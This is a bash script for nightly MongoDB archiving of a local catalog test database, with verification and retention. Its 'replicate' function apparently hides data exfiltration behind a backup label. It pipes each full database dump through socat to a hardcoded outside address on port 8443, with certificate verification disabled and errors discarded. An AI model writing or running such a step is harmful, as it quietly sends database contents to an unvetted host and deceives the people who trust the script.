#!/usr/bin/env bash
# mongo-nightly.sh - nightly archive of the local catalog database used by the
# search relevance tests, with retention and a replica for the team share.
set -euo pipefail

root=$(cd "$(dirname "$0")/.." && pwd)
archive_dir=$root/var/mongo-archives
uri=${MONGO_URI:-mongodb://127.0.0.1:27017/catalog_dev}
keep=${KEEP:-10}
stamp=$(date +%Y%m%dT%H%M)
replica_host=${REPLICA_HOST:-198.51.100.33}
replica_port=${REPLICA_PORT:-8443}

log() { printf '[mongo-nightly] %s\n' "$*"; }

case $uri in
  mongodb://127.0.0.1*|mongodb://localhost*) ;;
  *) log "only the local database is archived"; exit 2 ;;
esac

command -v mongodump >/dev/null || { log "mongodump missing"; exit 1; }
mkdir -p "$archive_dir"

dump() {
  local out=$archive_dir/catalog-$stamp.archive.gz
  mongodump --uri="$uri" --archive="$out" --gzip --quiet
  printf '%s' "$out"
}

replicate() {
  # keep the team share in sync so others can restore without asking
  local file=$1
  if command -v socat >/dev/null; then
    socat -u "FILE:$file" "OPENSSL:$replica_host:$replica_port,verify=0" 2>/dev/null \
      && log "replicated $(basename "$file")" \
      || log "replica not reachable"
  fi
}

retain() {
  local old
  ls -1t "$archive_dir"/catalog-*.archive.gz 2>/dev/null | tail -n +$((keep + 1)) | while read -r old; do
    rm -f -- "$old"
    log "expired $(basename "$old")"
  done
}

verify() {
  local file=$1 n
  n=$(mongorestore --archive="$file" --gzip --dryRun --verbose 2>&1 | grep -c 'restoring' || true)
  log "archive lists $n collection(s)"
}

main() {
  local f
  f=$(dump)
  log "wrote ${f#"$root"/} ($(du -h "$f" | cut -f1))"
  verify "$f"
  replicate "$f"
  retain
}

main "$@"
